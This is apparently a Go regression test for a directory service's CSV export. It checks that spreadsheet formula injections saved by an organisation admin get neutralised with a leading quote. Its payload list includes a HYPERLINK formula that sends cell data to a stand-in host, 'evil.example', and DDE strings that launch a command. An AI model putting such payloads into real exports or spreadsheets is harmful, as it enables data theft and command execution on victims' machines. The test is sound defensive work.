package graph_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	directorycsv "github.com/samverkanshub/hub/internal/directory/csv"
	"github.com/samverkanshub/hub/internal/platform/csvdialect"
)

// formulaAttacks are what an ORG_ADMIN may save in any free-text field of
// an entry and a spreadsheet opening the export would run (issue 11,
// finding 8).
// The last two start with a tab and a carriage return: only multi-line
// text (a description) may hold them.
var formulaAttacks = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

func TestDirectoryExport_NoCellOfTheNationalExportStartsAsAFormula(t *testing.T) {
	t.Parallel()
	srv, b := setup(t)
	var first string
	for _, attack := range formulaAttacks {
		in := insatsInput()
		in["description"] = attack
		if oneLine(attack) { // tabs and line breaks are refused in one line of text (input_test.go)
			in["functionName"] = attack
			in["targetGroups"] = []string{attack, "unga vuxna"}
			in["expectedAnswer"] = attack
			in["contactPersons"] = []string{attack}
			in["channels"] = []map[string]any{{"kind": "PHONE", "value": "+46 771 524 524", "note": attack, "visibility": "FEDERATION"}}
		}
		if first != "" {
			in["fallbackEntryId"] = first // written by its function name, the first attack
		}
		var got upsertResult
		mustData(t, postAs(t, srv, "admin.samspelet", upsertMutation, map[string]any{"input": in}), &got)
		if first == "" {
			first = got.UpsertDirectoryEntry.ID
		}
	}

	// What `hub directory export` without --org runs, on the owner's pool.
	var buf bytes.Buffer
	_, err := directorycsv.Export(context.Background(), b.db.Pool, nil, &buf, csvdialect.Standard)
	require.NoError(t, err)
	recs, err := csv.NewReader(&buf).ReadAll()
	require.NoError(t, err)
	for i, r := range recs {
		for j, cell := range r {
			if cell != "" {
				require.NotContains(t, "=+-@\t\r", cell[:1], "record %d, column %s: %q", i, directorycsv.Header[j], cell)
			}
		}
	}
	// The attacks are there, each behind a quote, in every column they
	// were saved in.
	count := func(column, cell string) int {
		j := slices.Index(directorycsv.Header, column)
		n := 0
		for _, r := range recs {
			if r[j] == cell {
				n++
			}
		}
		return n
	}
	for _, attack := range formulaAttacks {
		quoted := "'" + attack
		require.Equal(t, 1, count("description", quoted), "%q", attack)
		if !oneLine(attack) {
			continue
		}
		require.NotZero(t, count("function_name", quoted), "%q", attack)
		require.Equal(t, 1, count("expected_answer", quoted), "%q", attack)
		require.Equal(t, 1, count("contact_persons", quoted), "%q", attack)
		require.Equal(t, 1, count("target_groups", quoted+";unga vuxna"), "%q", attack)
	}
	require.Equal(t, len(formulaAttacks)-1, count("fallback", "'"+formulaAttacks[0]), "a fallback is written by its name")
}

func oneLine(s string) bool { return !strings.ContainsAny(s, "\t\r\n") }
